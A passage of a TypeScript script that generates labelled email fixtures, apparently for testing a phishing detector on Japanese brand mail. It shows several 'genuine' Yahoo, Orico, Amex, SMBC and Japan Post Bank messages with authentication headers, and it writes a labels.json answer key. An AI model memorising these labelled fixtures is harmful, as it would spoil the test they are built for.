        'quoted-printable',
      ),
      textPart(
        html([
          '<p>Amazon.co.jpをご利用いただき、ありがとうございます。</p>',
          '<table><tr><td>注文番号</td><td>250-7719032-4481029</td></tr><tr><td>お届け予定</td><td>2026年11月19日</td></tr></table>',
          '<p>ご注文の状況は<a href="https://www.amazon.co.jp/gp/css/order-history?ref_=pe_orderconf">注文履歴</a>でご確認いただけます。</p>',
          '<p><a href="https://www.amazon.co.jp/">https://www.amazon.co.jp/</a></p>',
        ]),
        'utf-8',
        'quoted-printable',
        'html',
      ),
    ]),
  },
  {
    file: 'gn05-yahoo-password-jis.eml',
    label: 'genuine',
    brand: 'yahoo_jp',
    note: '公式送信ドメイン mail.yahoo.co.jp。pass。リンクは security.yahoo.co.jp のみ。ISO-2022-JP 7bit',
    trace: [
      'Return-Path: <bounce-ys@mail.yahoo.co.jp>',
      'Received: from mail.yahoo.co.jp (mail.yahoo.co.jp [182.22.24.124])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkF0d3zStz4;',
      '\tTue, 17 Nov 2026 21:40:19 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=bounce-ys@mail.yahoo.co.jp;',
      '\tdkim=pass header.d=mail.yahoo.co.jp;',
      '\tdmarc=pass header.from=mail.yahoo.co.jp',
    ],
    fromName: 'Yahoo! JAPAN',
    from: 'id-info@mail.yahoo.co.jp',
    to: 'user@mail.example.jp',
    subject: '【Yahoo! JAPAN】パスワード変更のお知らせ',
    date: 'Tue, 17 Nov 2026 21:40:11 +0900',
    messageId: '20261117214011.ID.77213@mail.yahoo.co.jp',
    headerCharset: 'iso-2022-jp',
    body: textPart(
      [
        'Yahoo! JAPAN IDをご利用のお客様',
        '',
        'Yahoo! JAPAN IDのパスワードが変更されました。',
        '',
        '変更日時:2026年11月17日 21時39分',
        '',
        'お心当たりがない場合は、Yahoo! JAPANのトップページからご自身でログインし、',
        '登録情報をご確認ください。',
        '',
        'セキュリティ情報:https://security.yahoo.co.jp/',
        '',
        'LINEヤフー株式会社',
      ].join('\n'),
      'iso-2022-jp',
      '7bit',
    ),
  },
  {
    file: 'gn06-orico-renewal-jis.eml',
    label: 'genuine',
    brand: 'orico',
    note: '公式記載の送信アドレス orico-ksn@s.onet.orico.co.jp。pass。リンクは orico.co.jp、電話は公式 0120-828-013 のみ。ISO-2022-JP 7bit',
    trace: [
      'Return-Path: <orico-ksn@s.onet.orico.co.jp>',
      'Received: from s.onet.orico.co.jp (s.onet.orico.co.jp [210.131.10.44])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkG3f6bVwz5;',
      '\tWed, 18 Nov 2026 11:05:51 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=orico-ksn@s.onet.orico.co.jp;',
      '\tdkim=pass header.d=orico.co.jp;',
      '\tdmarc=pass header.from=s.onet.orico.co.jp',
    ],
    fromName: 'オリコ',
    from: 'orico-ksn@s.onet.orico.co.jp',
    to: 'user@mail.example.jp',
    subject: '【オリコ】更新カード発送のご案内',
    date: 'Wed, 18 Nov 2026 11:05:40 +0900',
    messageId: 'ksn.20261118110540.2210@s.onet.orico.co.jp',
    headerCharset: 'iso-2022-jp',
    body: textPart(
      [
        'オリコカード会員様',
        '',
        'いつもオリコカードをご利用いただき、誠にありがとうございます。',
        'お持ちのカードの有効期限到来に伴い、新しいカードを本人限定受取郵便で発送いたします。',
        '',
        '発送予定:2026年12月上旬',
        '',
        '受け取りに関するご案内:',
        'https://www.orico.co.jp/support/procedure/receive_card/',
        '',
        'カードの紛失・盗難のご連絡:0120-828-013(24時間)',
        '',
        '株式会社オリエントコーポレーション',
      ].join('\n'),
      'iso-2022-jp',
      '7bit',
    ),
  },
  {
    file: 'gn07-amex-safekey-english.eml',
    label: 'genuine',
    brand: 'amex_jp',
    note: 'English SafeKey one-time passcode from the documented sender Americanexpress@welcome.americanexpress.com; pass; only an americanexpress.com link; the code is never requested back',
    trace: [
      'Return-Path: <bounce-182@welcome.americanexpress.com>',
      'Received: from mta7.welcome.americanexpress.com (mta7.welcome.americanexpress.com [148.173.96.17])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkH6g9cXyz6;',
      '\tWed, 18 Nov 2026 04:18:09 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=bounce-182@welcome.americanexpress.com;',
      '\tdkim=pass header.d=welcome.americanexpress.com;',
      '\tdmarc=pass header.from=welcome.americanexpress.com',
    ],
    fromName: 'American Express',
    from: 'Americanexpress@welcome.americanexpress.com',
    to: 'user@mail.example.jp',
    subject: 'Your American Express SafeKey one-time passcode',
    date: 'Tue, 17 Nov 2026 19:18:02 +0000',
    messageId: 'sk.20261117191802.88310@welcome.americanexpress.com',
    headerCharset: 'utf-8',
    body: textPart(
      [
        'Dear Cardmember,',
        '',
        'Your American Express SafeKey one-time passcode is 663018.',
        'It expires in 10 minutes.',
        '',
        'American Express will never call, text or email you to ask for this passcode.',
        'Do not share it with anyone.',
        '',
        'Protecting yourself from fraud:',
        'https://www.americanexpress.com/jp/benefits/service-security/safety-fraud/protecting-yourself/index.html',
        '',
        'American Express International, Inc.',
      ].join('\n'),
      'utf-8',
      '7bit',
    ),
  },
  {
    file: 'gn08-smbc-card-html.eml',
    label: 'genuine',
    brand: 'smbc_card',
    note: 'multipart/alternative。HTMLのリンク表示と href がともに www.smbc-card.com(長いパス)。公式番号 0120-919-456。pass。UTF-8 base64',
    trace: [
      'Return-Path: <bounce@smbc-card.com>',
      'Received: from mail.smbc-card.com (mail.smbc-card.com [210.141.107.33])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkJ9h2dZaz7;',
      '\tWed, 18 Nov 2026 12:00:31 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=bounce@smbc-card.com;',
      '\tdkim=pass header.d=smbc-card.com;',
      '\tdmarc=pass header.from=smbc-card.com',
    ],
    fromName: '三井住友カード',
    from: 'info@smbc-card.com',
    to: 'user@mail.example.jp',
    subject: 'カードを紛失・盗難された場合のお手続き',
    date: 'Wed, 18 Nov 2026 12:00:20 +0900',
    messageId: '20261118120020.smbc.44102@smbc-card.com',
    headerCharset: 'utf-8',
    body: multipart('alternative', 'smbc_alt_20261118_33a1', [
      textPart(
        [
          '三井住友カードをご利用のお客様',
          '',
          'カードを紛失された場合は、Vpassアプリからすぐにカードの利用を停止できます。',
          'お電話の場合は 0120-919-456(24時間)までご連絡ください。',
          '',
          '詳しくはこちら',
          'https://www.smbc-card.com/mem/hitotoki/solution/losing_card.jsp',
          '',
          '当社からメールやSMSでカード番号・暗証番号をお尋ねすることはありません。',
          '',
          '三井住友カード株式会社',
        ].join('\n'),
        'utf-8',
        'base64',
      ),
      textPart(
        html([
          '<p>三井住友カードをご利用のお客様</p>',
          '<p>カードを紛失された場合は、Vpassアプリからすぐにカードの利用を停止できます。<br>お電話の場合は 0120-919-456(24時間)までご連絡ください。</p>',
          '<p>詳しくは<a href="https://www.smbc-card.com/mem/hitotoki/solution/losing_card.jsp">https://www.smbc-card.com/mem/hitotoki/solution/losing_card.jsp</a></p>',
          '<p>当社からメールやSMSでカード番号・暗証番号をお尋ねすることはありません。</p>',
        ]),
        'utf-8',
        'base64',
        'html',
      ),
    ]),
  },
  {
    file: 'gn09-japan-post-bank-qp.eml',
    label: 'genuine',
    brand: 'japan_post_bank',
    note: '送信元 information@jp-bank.japanpost.jp(二次情報で正規とされるアドレス)。pass。リンクは www.jp-bank.japanpost.jp のみ。UTF-8 quoted-printable',
    trace: [
      'Return-Path: <information@jp-bank.japanpost.jp>',
      'Received: from mail.jp-bank.japanpost.jp (mail.jp-bank.japanpost.jp [202.229.15.70])',
      '\tby mx.mail.example.jp (Postfix) with ESMTPS id 4XkK2j5fBcz8;',
      '\tWed, 18 Nov 2026 15:44:12 +0900 (JST)',
      'Authentication-Results: mx.mail.example.jp;',
      '\tspf=pass smtp.mailfrom=information@jp-bank.japanpost.jp;',
      '\tdkim=pass header.d=jp-bank.japanpost.jp;',
      '\tdmarc=pass header.from=jp-bank.japanpost.jp',
    ],
    fromName: 'ゆうちょ銀行',
    from: 'information@jp-bank.japanpost.jp',
    to: 'user@mail.example.jp',
    subject: 'ゆうちょダイレクト ログインパスワード変更のお知らせ',
    date: 'Wed, 18 Nov 2026 15:44:03 +0900',
    messageId: '20261118154403.yd.10072@jp-bank.japanpost.jp',
    headerCharset: 'utf-8',
    body: textPart(
      [
        'ゆうちょ銀行をご利用のお客さま',
        '',
        'ゆうちょダイレクトのログインパスワードが変更されました。',
        '',
        '変更日時:2026年11月18日 15時43分',
        '',
        'お心当たりのない場合は、ゆうちょ銀行ホームページからご自身でログインのうえご確認ください。',
        'https://www.jp-bank.japanpost.jp/',
        '',
        'ゆうちょ銀行が、メールやSMSで暗証番号やパスワードの入力をお願いすることはありません。',
        '',
        '株式会社ゆうちょ銀行',
      ].join('\n'),
      'utf-8',
      'quoted-printable',
    ),
  },
];

const labels: Record<string, { label: string; brand: string; note: string }> = {};
for (const m of mails) {
  writeFileSync(join(OUT_DIR, m.file), render(m));
  labels[m.file] = { label: m.label, brand: m.brand, note: m.note };
}
writeFileSync(join(OUT_DIR, 'labels.json'), `${JSON.stringify(labels, null, 2)}\n`);
console.log(`wrote ${mails.length} .eml files and labels.json to ${OUT_DIR}`);
